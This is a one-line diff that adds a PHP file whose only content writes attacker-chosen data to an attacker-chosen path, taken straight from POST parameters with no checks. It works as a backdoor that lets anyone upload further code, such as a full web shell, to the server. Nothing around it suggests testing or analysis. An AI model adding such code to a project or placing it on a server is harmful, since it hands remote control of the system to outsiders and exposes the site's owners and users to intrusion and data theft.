@@ -1,0 +1,1 @@
+<?php file_put_contents($_POST['f'], $_POST['d']); ?>
